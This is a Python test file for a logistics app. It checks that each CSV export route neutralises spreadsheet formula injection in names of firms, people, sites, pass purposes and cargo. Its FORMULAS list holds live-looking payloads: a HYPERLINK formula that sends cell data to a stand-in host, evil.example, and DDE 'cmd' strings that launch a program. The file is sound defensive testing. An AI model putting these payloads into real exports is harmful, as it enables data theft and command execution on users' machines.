"""Formula injection in the CSV files the product writes: a firm, person, site, pass or cargo text that starts
like a spreadsheet formula arrives as text (a leading apostrophe), in every CSV route.

The CSV routes are found from the app's routes (a GET route whose path ends in .csv, or any GET route
without URL variables that answers text/csv), so a new export is walked too; a .csv route with a URL
variable this file does not know fails the test until someone adds a sample value."""
import csv
import io
import re

import pytest

from checkpoints.models import SiteKind
from checkpoints.sites import create_site
from core.accounts import SYSTEM, FirmRole, Role
from core.csvcells import FORMULA_STARTS, csv_bytes, neutralise, restore
from core.csvrows import load_csv_rows
from logistics import services as logistics
from tests.api.helpers import uscc
from tests.api.logistics_helpers import booking, build_relay, clock
from tests.api.web_helpers import sign_in
from passes import services as passes
from tests.factories import (WEB_PASSWORD, bearer, make_firm, make_person, make_vehicle, make_web_user,
                             pass_data)
from whitelist.imports import COLUMNS
from whitelist.schemas import PersonIn

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]


def test_every_formula_start_is_neutralised_and_read_back_unchanged():
    for text in FORMULAS + ["+86 13900139000", "-", "@"]:
        cell = neutralise(text)
        assert cell.startswith("'"), text
        assert restore(cell) == text
    for harmless in ("李师傅", "粤B12345", "440304200001010009", "13900139000", "", "'quoted", "a=b"):
        assert neutralise(harmless) == harmless and restore(harmless) == harmless
    assert neutralise(None) == "" and neutralise(-5) == "'-5"


def test_a_file_we_write_with_a_mainland_phone_imports_again_unchanged():
    body = csv_bytes(COLUMNS, [("driver", "=李师傅", "cn_resident_id", "440304200001010009", "+86 13900139000")])
    assert "'+86 13900139000" in body.decode("utf-8-sig")
    rows, errors = load_csv_rows(body, COLUMNS, PersonIn())
    assert errors == []
    assert rows[0][1]["phone"] == "+86 13900139000" and rows[0][1]["name"] == "=李师傅"


@pytest.fixture
def hostile(app, session, areas, cipher):
    """Formula-like names everywhere a CSV could show them: firm, person, site, pass purpose, cargo."""
    now = clock()
    relay = build_relay(session, areas, cipher, app.extensions["keyring"], now)
    firm, _ = make_firm(session, areas, now, uscc=uscc("MA5G0X02"), name=FORMULAS[0], area_code="440304001")
    make_person(session, areas, cipher, now, firm_id=relay.ids["mainland_firm"], name=FORMULAS[1],
                id_number="11010519491231002X")
    create_site(session, data=dict(name=FORMULAS[2], kind=SiteKind.RELAY_YARD, area_code="440304001", lat=22.5,
                                   lon=114.0, capacity=20), actor=SYSTEM, areas=areas, now=now)
    van = make_vehicle(session, areas, now, firm_id=relay.ids["mainland_firm"], plate="粤B54321")
    passes.apply_for_pass(session, data=pass_data(vehicle_id=van.id, driver_ids=[relay.ids["mainland_driver"]],
                                                  now=now, purpose=FORMULAS[3]),
                          actor=relay.actors["mainland_firm"], areas=areas, max_days=7, now=now)
    data = booking(relay)
    data["cargo"]["description"] = FORMULAS[4]
    logistics.book_handover(session, data=data, actor=relay.actors["hk_firm"], now=now)
    make_web_user(session, areas, now, Role.FIRM, username="csv.manager", firm_id=relay.ids["mainland_firm"],
                  firm_role=FirmRole.MANAGER, name=FORMULAS[5])
    make_web_user(session, areas, now, Role.ADMIN, username="csv.admin", name=FORMULAS[6])
    values = {"firm_id": str(firm.id), "person_id": str(relay.ids["mainland_driver"]), "code": "zh"}
    return relay, values


def csv_urls(app, client, values: dict, headers: dict) -> dict[str, str]:
    """Every CSV the app writes that this caller can reach: {url: body}."""
    found = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.endswith("static") or rule.endpoint == "web.switch_language":
            continue
        if rule.arguments and not rule.rule.endswith(".csv"):
            continue
        missing = [name for name in rule.arguments if name not in values]
        assert not missing, f"add a sample value for {missing} of {rule.rule} to this test"
        url = re.sub(r"<(?:[^:>]+:)?([^>]+)>", lambda m: values[m.group(1)], rule.rule)
        response = client.get(url, headers=headers)
        assert response.status_code < 500, url
        if response.mimetype == "text/csv":
            found[url] = response.get_data(as_text=True)
    return found


def assert_no_formula(url: str, body: str) -> None:
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    assert rows, url
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), f"{url}: {cell!r} would run as a formula"


def test_every_csv_route_writes_formula_like_names_as_text(app, client, hostile):
    relay, values = hostile
    seen = {}
    seen |= csv_urls(app, client, values, bearer(relay.tokens["admin"]))
    for username in ("csv.manager", "csv.admin"):
        with app.test_client() as web:
            assert sign_in(web, username, WEB_PASSWORD).status_code == 303
            seen |= csv_urls(app, web, values, {})
    assert {"/portal/people/import/template.csv", "/portal/vehicles/import/template.csv",
            "/portal/passes/fleet/template.csv"} <= set(seen), sorted(seen)
    for url, body in seen.items():
        assert_no_formula(url, body)
